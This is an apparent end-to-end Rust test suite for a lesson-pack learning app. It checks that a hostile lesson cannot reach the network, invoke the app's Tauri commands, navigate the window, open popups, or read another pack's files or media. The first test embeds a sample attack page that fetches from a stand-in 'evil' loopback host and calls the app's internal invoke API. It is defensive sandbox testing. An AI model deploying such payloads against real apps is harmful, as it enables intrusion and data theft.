//! A hostile lesson tries to reach the network, call the app's commands,
//! navigate or replace the app's window, open popups and read another
//! pack's files. Every attempt is checked from outside the frame.

use std::io::Read;
use std::net::TcpListener;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use anyhow::{Context, Result};
use kalamu_core::Store;
use kalamu_e2e::{App, install_raw_pack};

const PNG: &[u8] = &[
    0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44, 0x52, 0x00,
    0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x01, 0x08, 0x06, 0x00, 0x00, 0x00, 0x1f, 0x15, 0xc4, 0x89, 0x00,
    0x00, 0x00, 0x0d, 0x49, 0x44, 0x41, 0x54, 0x78, 0x9c, 0x63, 0xf8, 0xcf, 0xc0, 0xf0, 0x1f, 0x00, 0x05,
    0x00, 0x01, 0xff, 0x89, 0x99, 0x3d, 0x1d, 0x00, 0x00, 0x00, 0x00, 0x49, 0x45, 0x4e, 0x44, 0xae, 0x42,
    0x60, 0x82,
];

/// Counts every connection made to a loopback port, as a would-be exfiltration server.
fn listener() -> Result<(u16, Arc<AtomicUsize>)> {
    let server = TcpListener::bind("127.0.0.1:0")?;
    server.set_nonblocking(true)?;
    let port = server.local_addr()?.port();
    let hits = Arc::new(AtomicUsize::new(0));
    let counter = hits.clone();
    std::thread::spawn(move || {
        let deadline = std::time::Instant::now() + Duration::from_secs(120);
        while std::time::Instant::now() < deadline {
            if let Ok((mut s, _)) = server.accept() {
                counter.fetch_add(1, Ordering::SeqCst);
                let _ = s.read(&mut [0u8; 1024]);
            }
            std::thread::sleep(Duration::from_millis(10));
        }
    });
    Ok((port, hits))
}

#[tokio::test(flavor = "current_thread")]
async fn hostile_lesson_is_contained_in_its_frame() -> Result<()> {
    let data = tempfile::tempdir()?;
    let (port, hits) = listener()?;
    let evil = format!("http://127.0.0.1:{port}");
    install_raw_pack(
        data.path(),
        "org.example.secret",
        "secret.html",
        &[("secret.html", b"<p>secret</p>"), ("secret.png", PNG)],
    )?;
    let page = format!(
        r#"<!doctype html><html><head><meta charset="utf-8">
<meta http-equiv="refresh" content="1;url={evil}/refresh">
<link rel="stylesheet" href="{evil}/style.css">
<script src="{evil}/evil.js"></script>
<script>
  document.body && document.body.setAttribute("data-pwned", "inline");
  window.__pwned = true;
  try {{ fetch("{evil}/fetch"); }} catch (e) {{}}
  try {{ window.__TAURI_INTERNALS__.invoke("add_learner", {{ name: "Intruder" }}); }} catch (e) {{}}
  try {{ parent.__TAURI_INTERNALS__.invoke("add_learner", {{ name: "Intruder" }}); }} catch (e) {{}}
  try {{ top.location = "{evil}/top"; }} catch (e) {{}}
  try {{ window.open("{evil}/popup"); }} catch (e) {{}}
</script></head>
<body><h1>Innocent lesson</h1>
<img id="own" src="pic.png">
<img id="foreign" src="kalamu-lesson://org.example.secret/secret.png">
<img id="remote" src="{evil}/img.png">
<video src="{evil}/video.webm" autoplay></video>
<iframe src="{evil}/frame"></iframe>
<object data="{evil}/object"></object>
<form action="{evil}/form" method="post"><input name="x" value="y"></form>
</body></html>"#
    );
    install_raw_pack(
        data.path(),
        "org.example.hostile",
        "lesson.html",
        &[("lesson.html", page.as_bytes()), ("pic.png", PNG)],
    )?;
    let learner = Store::open_dir(data.path())?.add_learner("Binta")?;
    Store::open_dir(data.path())?.set_current_learner(&learner.id)?;

    let app = App::start(data.path()).await?;
    app.click("[data-pack-id='org.example.hostile'] [data-testid=open-pack]").await?;
    app.click("[data-lesson-id=lesson]").await?;
    app.enter_lesson_frame("h1").await?;
    tokio::time::sleep(Duration::from_secs(3)).await; // give every attempt (and the meta refresh) its chance
    let verdict = app
        .client
        .execute(
            "const w = id => document.getElementById(id).naturalWidth;
             return { own: w('own'), foreign: w('foreign'), remote: w('remote'),
                      pwned: document.body.getAttribute('data-pwned'), flag: window.__pwned === true,
                      url: location.href };",
            vec![],
        )
        .await?;
    app.client.enter_parent_frame().await?;
    app.screenshot("hostile-lesson").await?;

    assert_eq!(verdict["own"], 1, "the lesson's own image loads: {verdict}");
    assert_eq!(verdict["foreign"], 0, "another pack's file is out of reach: {verdict}");
    assert_eq!(verdict["remote"], 0, "no image from the network: {verdict}");
    assert!(verdict["pwned"].is_null() && verdict["flag"] == false, "no lesson script ran: {verdict}");
    assert!(
        verdict["url"].as_str().unwrap().starts_with("kalamu-lesson://org.example.hostile/"),
        "the frame stayed put: {verdict}"
    );
    // The app's own window was neither navigated nor replaced.
    let top = app.client.current_url().await?;
    assert!(!top.as_str().contains("127.0.0.1"), "the window navigated to {top}");
    app.text_of("[data-testid=lesson-view]").await?;
    assert_eq!(app.client.windows().await?.len(), 1, "no popup opened");
    app.close().await?;

    assert_eq!(hits.load(Ordering::SeqCst), 0, "the lesson reached the network");
    let names: Vec<_> = Store::open_dir(data.path())?.learners()?.into_iter().map(|l| l.name).collect();
    assert_eq!(names, ["Binta"], "the lesson called an app command");
    Ok(())
}

/// A lesson whose bytes end inside an unclosed tag: before, it swallowed the
/// tracker appended after it (and showed its source as text). The tracker
/// now stands before the lesson's markup, so it still reports positions.
#[tokio::test(flavor = "current_thread")]
async fn a_lesson_ending_in_an_unclosed_tag_swallows_no_tracker() -> Result<()> {
    let data = tempfile::tempdir()?;
    let tall: String = (0..200).map(|i| format!("<p>Paragraph {i}</p>\n")).collect();
    let page = format!("<!doctype html><html><body><h1>Dangling</h1>{tall}<img src=\"");
    install_raw_pack(
        data.path(),
        "org.example.dangling",
        "lesson.html",
        &[("lesson.html", page.as_bytes())],
    )?;
    let learner = Store::open_dir(data.path())?.add_learner("Binta")?;
    Store::open_dir(data.path())?.set_current_learner(&learner.id)?;

    let app = App::start(data.path()).await?;
    app.click("[data-pack-id='org.example.dangling'] [data-testid=open-pack]").await?;
    app.click("[data-lesson-id=lesson]").await?;
    app.enter_lesson_frame("h1").await?;
    let shown = app.client.execute("return document.body.innerText", vec![]).await?;
    let shown = shown.as_str().unwrap_or_default().to_owned();
    assert!(
        !shown.contains("kalamu") && !shown.contains("postMessage"),
        "the tracker's source shows: {shown}"
    );
    app.client.execute("scrollTo(0, document.documentElement.scrollHeight); return true;", vec![]).await?;
    tokio::time::sleep(Duration::from_millis(1500)).await;
    app.client.enter_parent_frame().await?;
    app.click(".lesson-nav button").await?; // leaving saves the latest position
    app.text_of("[data-testid=pack-view]").await?;
    app.close().await?;

    let store = Store::open_dir(data.path())?;
    let at = store.events_of(&learner.id)?.into_iter().find_map(|e| match e.body {
        kalamu_core::progress::event::EventBody::Position { at, .. } => Some(at),
        _ => None,
    });
    assert!(at.is_some_and(|at| at > 0.5), "the tracker reported the scroll to the end: {at:?}");
    Ok(())
}

/// One status line from the lesson media server for `path`.
fn media_status(port: u16, path: &str) -> Result<String> {
    use std::io::{BufRead, Write};
    let mut c = std::net::TcpStream::connect(("127.0.0.1", port))?;
    c.set_read_timeout(Some(Duration::from_secs(5)))?;
    write!(c, "GET {path} HTTP/1.1\r\nHost: media\r\nRange: bytes=0-9\r\nConnection: close\r\n\r\n")?;
    let mut line = String::new();
    std::io::BufReader::new(c).read_line(&mut line)?;
    Ok(line.trim().to_owned())
}

/// A page holds its own pack's media URLs; with their token, another pack's
/// media is out of reach.
#[tokio::test(flavor = "current_thread")]
async fn a_lessons_media_token_opens_no_other_packs_media() -> Result<()> {
    let (data, _) = kalamu_e2e::data_with_learner("Binta")?;
    install_raw_pack(
        data.path(),
        "org.example.other",
        "lesson.html",
        &[
            ("lesson.html", b"<!doctype html><video src=\"clip.webm\"></video>"),
            ("clip.webm", &[0x1a, 0x45, 0xdf, 0xa3, 0, 0, 0, 0, 0, 0, 0, 0]),
        ],
    )?;
    let app = App::start(data.path()).await?;
    app.click("[data-pack-id='org.kalamu.samples.networks-intro'] [data-testid=open-pack]").await?;
    app.click("[data-lesson-id=packets-and-routing]").await?;
    app.enter_lesson_frame("video").await?;
    let src = app.client.execute("return document.querySelector('video').currentSrc", vec![]).await?;
    app.client.enter_parent_frame().await?;
    let src = src.as_str().unwrap_or_default().to_owned();
    let rest = src.strip_prefix("http://127.0.0.1:").context("a loopback media URL")?;
    let (port, path) = rest.split_once('/').context("a path")?;
    let port: u16 = port.parse()?;
    let token = path.split('/').next().unwrap_or_default().to_owned();
    let own = media_status(port, &format!("/{path}"))?;
    assert!(own.contains(" 206 "), "the lesson's own video, by its URL: {own}");
    let other = media_status(port, &format!("/{token}/org.example.other/clip.webm"))?;
    assert!(other.contains(" 404 "), "another pack's media with this pack's token: {other}");
    // That file is served, to its own pack's page, by its own pack's URL.
    app.click(".lesson-nav button").await?;
    app.click(".pack-view nav button").await?;
    app.click("[data-pack-id='org.example.other'] [data-testid=open-pack]").await?;
    app.click("[data-lesson-id=lesson]").await?;
    app.enter_lesson_frame("video").await?;
    let src = app.client.execute("return document.querySelector('video').src", vec![]).await?;
    app.client.enter_parent_frame().await?;
    let path = src.as_str().and_then(|s| s.split_once(&format!("127.0.0.1:{port}"))).context("its URL")?.1;
    assert!(!path.contains(&token), "its own token: {path}");
    let theirs = media_status(port, path)?;
    assert!(theirs.contains(" 206 "), "another pack's media by its own URL: {theirs}");
    app.close().await
}

/// A lesson that leads its frame to another pack's lesson (a refresh, as a
/// clicked link would): the window closes the frame rather than show that
/// course inside this one, and records none of that page's positions
/// against the hostile lesson.
#[tokio::test(flavor = "current_thread")]
async fn a_lesson_that_leads_its_frame_to_another_course_is_closed_and_credited_nothing() -> Result<()> {
    let (data, learner) = kalamu_e2e::data_with_learner("Binta")?;
    let target = "kalamu-lesson://org.kalamu.samples.networks-intro/lessons/what-is-a-network/index.html";
    let page = format!(
        "<!doctype html><html><head><meta http-equiv=\"refresh\" content=\"0; url={target}\"></head>\
         <body><h1>Leaving</h1></body></html>"
    );
    install_raw_pack(data.path(), "org.example.leader", "lesson.html", &[("lesson.html", page.as_bytes())])?;
    let app = App::start(data.path()).await?;
    app.click("[data-pack-id='org.example.leader'] [data-testid=open-pack]").await?;
    app.click("[data-lesson-id=lesson]").await?;
    let notice = app.text_of("[data-testid=lesson-strayed]").await?;
    assert!(notice.contains("another course"), "{notice}");
    assert!(
        app.client.find(fantoccini::Locator::Css("[data-testid=lesson-frame]")).await.is_err(),
        "the frame is gone"
    );
    tokio::time::sleep(Duration::from_secs(6)).await; // past the window's position saver
    app.click(".lesson-nav button").await?;
    app.text_of("[data-testid=pack-view]").await?;
    app.close().await?;
    let positions = Store::open_dir(data.path())?
        .events_of(&learner.id)?
        .into_iter()
        .filter(|e| matches!(e.body, kalamu_core::progress::event::EventBody::Position { .. }))
        .count();
    assert_eq!(positions, 0, "no position from the other course's page was credited to this lesson");
    Ok(())
}
